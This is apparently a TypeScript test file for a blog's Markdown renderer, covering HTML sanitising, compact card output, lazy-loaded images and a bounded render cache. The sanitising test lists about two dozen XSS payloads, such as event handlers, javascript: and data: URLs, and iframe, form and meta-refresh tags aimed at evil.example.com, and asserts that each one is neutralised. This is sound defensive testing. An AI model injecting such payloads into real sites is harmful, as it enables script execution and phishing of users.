import { describe, expect, it } from "vitest";
import { createRenderCache, renderMarkdown } from "./markdown.server";

function html(md: string) {
  const out = renderMarkdown(md);
  if (out.error) throw new Error("render failed");
  return out.html;
}

// Hostile inputs an editor account (or a stolen one) could save. None may produce
// anything a browser would execute.
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">clique</a>',
  "[clique](javascript:alert(1))",
  "[clique](JaVaScRiPt:alert(1))",
  "[dados](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload="alert(1)"><circle r="10"/></svg>',
  '<p style="background:url(javascript:alert(1))">estilo</p>',
  '<div style="position:fixed;inset:0">sobreposição</div>',
  '<iframe src="https://evil.example.com"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example.com"><input name="senha"></form>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<a href="https://x.com" onclick="alert(1)">x</a>',
  '<details open ontoggle="alert(1)">x</details>',
  "![img](javascript:alert(1))",
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<base href='https://evil.example.com/'>",
  "<meta http-equiv='refresh' content='0;url=https://evil.example.com'>",
  "<link rel=stylesheet href=https://evil.example.com/x.css>",
  "<style>body{display:none}</style>",
  '<p align="center" onmouseover="alert(1)">x</p>',
];

describe("renderMarkdown sanitising (D12)", () => {
  it.each(hostile)("neutralises %s", (input) => {
    const out = html(input).toLowerCase();
    expect(out).not.toMatch(/<script|<iframe|<object|<embed|<form|<svg|<style|<base|<meta|<link|<math/);
    // Inside a tag, not in text the sanitiser escaped (&lt;img onerror=…&gt; is harmless).
    expect(out).not.toMatch(/<[^>]*\son[a-z]+\s*=/);
    expect(out).not.toMatch(/<[^>]*(href|src)\s*=\s*"\s*(javascript|data|vbscript):/);
    expect(out).not.toMatch(/<[^>]*\sstyle\s*=/);
  });

  it("keeps ordinary Markdown: headings, emphasis, lists, tables and links", () => {
    const out = html(
      "## Lúpulos\n\n**Amargor** e _aroma_.\n\n- Citra\n- Mosaic\n\n| Estilo | IBU |\n|---|---|\n| IPA | 60 |\n\n[Guia](https://exemplo.com.br/guia)",
    );
    expect(out).toContain("<h2>Lúpulos</h2>");
    expect(out).toContain("<strong>Amargor</strong>");
    expect(out).toContain("<li>Citra</li>");
    expect(out).toContain("<td>IPA</td>");
    expect(out).toContain('href="https://exemplo.com.br/guia"');
    expect(out).toContain('rel="noopener noreferrer"');
  });

  it("keeps the editor's subset: <u> and align on blocks", () => {
    const out = html('<p align="center">centro</p>\n\nTexto <u>sublinhado</u>.');
    expect(out).toContain('<p align="center">centro</p>');
    expect(out).toContain("<u>sublinhado</u>");
    expect(html('<p align="evil">x</p>')).not.toContain("align=");
  });

  it("keeps images from the web and our own uploads", () => {
    expect(html("![Copo](https://exemplo.com.br/copo.png)")).toContain('src="https://exemplo.com.br/copo.png"');
    expect(html("![Copo](/media/123)")).toContain('src="/media/123"');
  });
});

describe("compact card form", () => {
  it("turns headings into bold paragraphs and clips tables", () => {
    const out = renderMarkdown("## Título\n\n| a | b |\n|---|---|\n| 1 | 2 |", { compact: true });
    expect(out.html).not.toMatch(/<h[1-6]/);
    expect(out.html).toContain('<p class="font-semibold text-foreground">Título</p>');
    expect(out.html).not.toContain("table-scroll");
  });

  it("keeps only the opening of a long post, which the card's six lines show", () => {
    const md = ["## Título", "Um.", "- item", "Dois.", "Três.", "Quatro.", "Cinco."].join("\n\n");
    const out = renderMarkdown(md, { compact: true });
    expect(out.html).toBe(
      '<div><p class="font-semibold text-foreground">Título</p>\n<p>Um.</p>\n<ul>\n<li>item</li>\n</ul>\n<p>Dois.</p></div>',
    );
    // The post page keeps everything.
    expect(renderMarkdown(md).html).toContain("<p>Cinco.</p>");
  });
});

describe("post images", () => {
  it("load lazily and take their pixel size from our /media URL (no layout shift)", () => {
    const id = "0b6c1f4e-8a8e-4e8e-9a43-2f1e2d3c4b5a";
    const out = html(`![Copo de IPA](/media/${id}-1600x900.webp)`);
    expect(out).toContain(`src="/media/${id}-1600x900.webp"`);
    expect(out).toContain('width="1600"');
    expect(out).toContain('height="900"');
    expect(out).toContain('loading="lazy"');
    expect(out).toContain('decoding="async"');
    expect(out).toContain('alt="Copo de IPA"');
  });

  it("leave other images without a guessed size, still lazy", () => {
    const out = html("![x](https://exemplo.com.br/copo-1600x900.png)");
    expect(out).not.toContain("width=");
    expect(out).toContain('loading="lazy"');
    // An author's own loading attribute does not switch lazy loading off.
    expect(html('<img src="https://exemplo.com.br/a.png" loading="eager">')).not.toContain('loading="eager"');
  });
});

describe("post render cache", () => {
  const at = new Date("2026-11-01T10:00:00Z");

  it("renders a version of a post once, and anew after an edit", () => {
    let renders = 0;
    const cache = createRenderCache(10, 1_000_000, (md, options) => {
      renders++;
      return renderMarkdown(md, options);
    });
    const post = { id: "p1", updatedAt: at, content: "**Um**" };
    expect(cache.render(post).html).toBe("<div><p><strong>Um</strong></p></div>");
    expect(cache.render({ ...post }).html).toBe("<div><p><strong>Um</strong></p></div>");
    expect(renders).toBe(1);
    // The card form is its own entry.
    expect(cache.render(post, { compact: true }).html).toBe("<div><p><strong>Um</strong></p></div>");
    expect(renders).toBe(2);
    // A save moves updatedAt: the new text shows at once.
    const edited = { id: "p1", updatedAt: new Date(at.getTime() + 1), content: "_Dois_" };
    expect(cache.render(edited).html).toBe("<div><p><em>Dois</em></p></div>");
    expect(renders).toBe(3);
  });

  it("renders anew when the text changed without a new update time", () => {
    const cache = createRenderCache();
    cache.render({ id: "p1", updatedAt: at, content: "antes" });
    expect(cache.render({ id: "p1", updatedAt: at, content: "depois" }).html).toBe("<div><p>depois</p></div>");
  });

  it("stays within its bounds, dropping the least recently used", () => {
    let renders = 0;
    const cache = createRenderCache(2, 1_000_000, (md, options) => {
      renders++;
      return renderMarkdown(md, options);
    });
    const post = (id: string) => ({ id, updatedAt: at, content: `post ${id}` });
    cache.render(post("a"));
    cache.render(post("b"));
    cache.render(post("a")); // a is now the most recent
    cache.render(post("c")); // drops b
    expect(cache.size).toBe(2);
    renders = 0;
    cache.render(post("a"));
    cache.render(post("c"));
    expect(renders).toBe(0);
    cache.render(post("b"));
    expect(renders).toBe(1);

    const small = createRenderCache(100, 100);
    for (let i = 0; i < 20; i++) small.render({ id: String(i), updatedAt: at, content: "x".repeat(30) });
    expect(small.chars).toBeLessThanOrEqual(100);
    expect(small.size).toBeGreaterThan(0);
  });
});
